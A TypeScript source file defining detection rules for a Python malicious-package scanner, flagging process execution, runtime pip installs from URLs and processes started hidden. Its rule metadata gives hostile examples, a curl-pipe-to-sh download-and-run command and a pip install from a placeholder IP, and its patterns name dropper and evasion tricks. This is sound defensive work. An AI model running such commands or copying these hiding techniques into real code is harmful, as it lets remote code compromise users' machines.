import { analyzeCommand } from '../../shell/command.js';
import type { PyRule } from '../engine.js';
import type { Node } from '../parser.js';
import { commandOf, PROCESS_CALLS, preview, py, severityRank } from './helpers.js';

const RUN_FILE_EXT = /\.(exe|bat|cmd|vbs|vbe|js|jse|ps1|scr|msi|hta|dll|sh|bin|elf|jar|pyw)\b/i;

export const processExec: PyRule = {
  meta: {
    ...py,
    id: 'PY-004',
    name: 'python-process-execution',
    category: 'execution',
    severity: 'low',
    confidence: 'high',
    description:
      'Code starts a process (subprocess, os.system, os.popen, os.startfile, pty.spawn...); the command line is analysed like a shell script. In a file that does not parse, the string commands of process calls on the broken lines are read as text and reported when they are a reverse shell, a download-and-run or similar.',
    rationale:
      'Starting programs is how Python droppers run their second stage (curl | sh, PowerShell, a downloaded .exe) and how reverse shells start; the command says which.',
    falsePositives: 'Build helpers calling compilers or git, CLIs wrapping other tools.',
    example: "os.system('curl -s http://192.0.2.1/x | sh')",
    references: [
      'https://docs.python.org/3/library/subprocess.html',
      'https://attack.mitre.org/techniques/T1059/006/',
    ],
  },
  create(ctx) {
    return {
      call(node: Node) {
        const name = ctx.callee(node);
        if (!name || !PROCESS_CALLS.has(name)) return;
        ctx.capability('process', node);
        ctx.capability('run', node);
        if (name === 'pty.spawn') ctx.capability('pty', node);
        const command = commandOf(ctx, node);
        const techniques = command ? analyzeCommand(command) : [];
        // `python -c CODE`: the inline code is Python, analyse it as such.
        const inline = command
          ? /(?:^|[\s/\\])python[w23.]*(?:\.exe)?\s+(?:-\w+\s+)*-c\s+(.+)$/s.exec(command)
          : null;
        if (inline?.[1] && ctx.reanalyze)
          ctx.pending.push(ctx.reanalyze(inline[1].replace(/^(['"])(.*)\1$/s, '$2'), node));
        if (
          command &&
          /^\s*(?:start\s+)?\S*\.(exe|bat|cmd|vbs|ps1|scr)\b/i.test(command) &&
          !/^\s*\S*python[w23.]*(\.exe)?\b/i.test(command)
        )
          techniques.push({
            id: 'download-execute',
            category: 'dropper',
            severity: 'high',
            description: 'runs a Windows executable or script',
            match: command.slice(0, 120),
          });
        if (name === 'os.startfile') {
          techniques.push({
            id: 'download-execute',
            category: 'dropper',
            severity: command && RUN_FILE_EXT.test(command) ? 'high' : 'medium',
            description: 'opens a file with its associated program (os.startfile)',
            match: command ?? '',
          });
        }
        const cmdNode = ctx.args(node).positional[0];
        if (
          cmdNode &&
          ctx.taint(cmdNode).has('decoded') &&
          !techniques.some((t) => severityRank(t.severity) >= 3)
        ) {
          // The command line itself is hidden behind base64/hex/...: nobody encodes `git describe`,
          // and nobody encodes one and also throws away everything it prints.
          const kw = ctx.args(node).keywords;
          const discarded = (k: string) => {
            const v = kw.get(k);
            return !!v && /(^|\.)DEVNULL$/.test(ctx.qualify(v) ?? v.text);
          };
          const silenced = discarded('stdout') && discarded('stderr');
          techniques.push({
            id: 'decode-payload',
            category: 'obfuscation',
            severity: silenced ? 'critical' : 'high',
            description: silenced
              ? 'is decoded at run time (an encoded command line) and runs with all its output discarded'
              : 'is decoded at run time (an encoded command line)',
            match: cmdNode.text.slice(0, 120),
          });
        }
        const worst = [...techniques].sort((a, b) => severityRank(b.severity) - severityRank(a.severity))[0];
        ctx.report({
          node,
          weak: !worst || severityRank(worst.severity) < severityRank('high'),
          message: command
            ? `Runs \`${preview(command)}\`${worst ? `, which ${worst.description}` : ''}.`
            : worst
              ? `Runs a command that ${worst.description} (${name}).`
              : `Runs a process whose command is computed at run time (${name}).`,
          severity: worst ? worst.severity : command ? 'low' : 'medium',
          category: worst?.category,
          evidence: { callee: name, command, techniques: techniques.map((t) => t.id) },
        });
      },
    };
  },
};

export const runtimePipInstall: PyRule = {
  meta: {
    ...py,
    id: 'PY-017',
    name: 'runtime-pip-install',
    category: 'dropper',
    severity: 'high',
    confidence: 'medium',
    description:
      'Code runs `pip install` itself, of a URL, VCS or file target or of a package not declared as a dependency.',
    rationale:
      'Installing packages from inside setup.py or at import bypasses the dependency metadata users review, and installs from URLs pull code no index vouches for; droppers use it to fetch their real payload.',
    falsePositives:
      'Build helpers that install optional build tools; notebooks-oriented tools that self-install extras.',
    example: "subprocess.call([sys.executable, '-m', 'pip', 'install', 'https://192.0.2.1/p.zip'])",
    references: ['https://pip.pypa.io/en/stable/user_guide/#using-pip-from-your-program'],
  },
  create(ctx) {
    return {
      call(node: Node) {
        const name = ctx.callee(node);
        let command: string | undefined;
        if (name && PROCESS_CALLS.has(name)) command = commandOf(ctx, node);
        else if (
          name === 'pip.main' ||
          name === 'pip._internal.main' ||
          name === 'pip._internal.cli.main.main'
        ) {
          const first = ctx.args(node).positional[0];
          const v = ctx.evaluate(first);
          command = Array.isArray(v) ? `pip ${v.map(String).join(' ')}` : 'pip install ?';
        }
        if (!command || !/\bpip3?(?:\.exe)?\b[^|;&]*\binstall\b/.test(command)) return;
        const target = /\binstall\b\s+(.*)$/.exec(command)?.[1] ?? '';
        const remote =
          /(https?|ftp):\/\/|\b(?:git|hg|svn|bzr)\+|\.whl\b|\.zip\b|\.tar\.gz\b|--index-url|--extra-index-url|-i\s/.test(
            target,
          );
        ctx.report({
          node,
          weak: !remote,
          severity: remote ? 'high' : 'medium',
          message: remote
            ? `Installs a package from outside the index at run time: \`${preview(command)}\`.`
            : `Runs \`${preview(command)}\` from package code.`,
          evidence: { command },
        });
      },
    };
  },
};

const HIDDEN_FLAGS =
  /CREATE_NO_WINDOW|DETACHED_PROCESS|0x0*8000000|134217728|SW_HIDE|STARTF_USESHOWWINDOW|CREATE_NEW_PROCESS_GROUP/;

export const hiddenProcess: PyRule = {
  meta: {
    ...py,
    id: 'PY-020',
    name: 'hidden-process',
    category: 'evasion',
    severity: 'medium',
    confidence: 'medium',
    description:
      'A process is started hidden or detached (CREATE_NO_WINDOW, DETACHED_PROCESS, SW_HIDE, pythonw, nohup); high when it starts while the package is installed or imported.',
    rationale:
      'Packages have no reason to hide the windows of the programs they start; droppers do it so the victim does not see the payload run.',
    falsePositives: 'GUI applications launching helpers; daemonising servers.',
    example: 'subprocess.Popen(path, creationflags=subprocess.CREATE_NO_WINDOW)',
    references: ['https://attack.mitre.org/techniques/T1564/003/'],
  },
  create(ctx) {
    return {
      call(node: Node) {
        const name = ctx.callee(node);
        if (!name || !PROCESS_CALLS.has(name)) return;
        const { keywords } = ctx.args(node);
        const flags = [keywords.get('creationflags'), keywords.get('startupinfo')]
          .map((k) => k?.text ?? '')
          .join(' ');
        const command = commandOf(ctx, node) ?? '';
        const hidden =
          HIDDEN_FLAGS.test(flags) ||
          /^\s*(\S*[\\/])?pythonw(\.exe)?\b|-w(indowstyle)?\s+hidden|\bnohup\b|\bstart\s+\/b\b/i.test(
            command,
          );
        if (!hidden) return;
        ctx.report({
          node,
          message: `Starts a process hidden or detached (${preview(flags.trim() || command, 80)}).`,
          evidence: { callee: name, flags: flags.trim() || undefined },
        });
      },
    };
  },
};
